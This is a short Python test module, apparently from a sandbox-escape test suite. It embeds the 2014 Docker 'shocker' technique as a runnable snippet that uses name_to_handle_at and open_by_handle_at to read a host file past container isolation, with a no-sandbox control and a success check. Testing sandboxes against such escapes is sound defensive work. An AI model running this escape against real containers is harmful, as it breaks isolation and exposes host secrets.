"""Open a file by its handle, past every folder on the way to it.

How `shocker` read the host's files from Docker in 2014: handles can be guessed.
"""

from tests.attacks.tools import syscalls
from tests.attacks.weakenings import no_sandbox

CODE = """
handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136)
mount = ctypes.c_int()
known = '@HOST@/secret.txt' if os.path.exists('@HOST@/secret.txt') else '/etc/localtime'
call(NAME_TO_HANDLE_AT, -100, known.encode(), handle, ctypes.byref(mount), 0)
mounted = os.open(os.path.dirname(known), os.O_RDONLY)
fd = call(OPEN_BY_HANDLE_AT, mounted, handle, os.O_RDONLY)
print('@TAG@'[::-1], os.read(fd, 99))
"""
CELLS = {"double": syscalls("name_to_handle_at", "open_by_handle_at") + CODE}
CONTROL = no_sandbox
NEEDS_ROOT = True


def succeeded(after):
    return after.proved
